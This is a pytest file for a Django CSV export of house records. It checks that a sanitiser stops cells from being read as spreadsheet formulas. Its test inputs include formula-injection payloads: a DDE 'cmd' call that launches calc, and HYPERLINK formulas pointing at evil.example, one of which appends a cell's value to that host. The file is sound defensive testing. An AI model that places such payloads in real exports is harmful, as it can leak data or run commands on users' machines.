"""The file for spreadsheets: whole, and nothing in it runs."""

import csv
import re
from io import StringIO

import pytest
from django.test import Client

from houses.partners.files.as_csv import harmless
from tests import factories
from tests.partners.files import table, text_of


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example","klik")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
        # A spreadsheet that takes ";" for the end of a cell begins a new one here.
        "Open;=1+1",
        "Open\n+1+1",
    ],
)
def test_no_cell_begins_a_formula(cell: str) -> None:
    written = harmless(cell)

    assert not re.search(r"(^|[;\t\r\n])\s*[=+\-@＝＋－＠]", written)
    assert written.replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize(
    "cell",
    ["+32 50 12 34 56", "-0.118", "106", "Huis - inloop", "a@b.example", "", "1-2", "'t Huis"],
)
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.django_db
def test_a_house_with_a_wicked_name_opens_harmlessly(client: Client) -> None:
    name = '=HYPERLINK("http://evil.example?"&A1,"Huis, open")'
    factories.make_house(name, slug="huis", website="https://example.org/;@x")

    (row,) = table(client)

    assert row["name"] == f"'{name}"


@pytest.mark.django_db
def test_the_table_is_as_rfc_4180_and_excel_want_it(client: Client) -> None:
    factories.make_house('Huis "De Brug", Knokke', summary=factories.dutch("Eén.\nTwee; drie."))

    text = text_of(client, "csv")
    header, row = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), strict=True)

    # Excel reads accents right only after this mark.
    assert text.startswith("\ufeffid,url,page,name,")
    assert text.endswith("\r\n")
    assert '"Huis ""De Brug"", Knokke"' in text
    assert len(header) == len(row) == len(set(header))
    assert row[header.index("summary")] == "Eén.\nTwee; drie."


@pytest.mark.django_db
def test_a_house_without_a_place_has_a_whole_row(client: Client) -> None:
    house = factories.make_house("Huis")
    house.locations.all().delete()

    (row,) = table(client)

    assert (row["name"], row["street"], row["latitude"], row["lifecycle"]) == (
        "Huis",
        "",
        "",
        "open",
    )
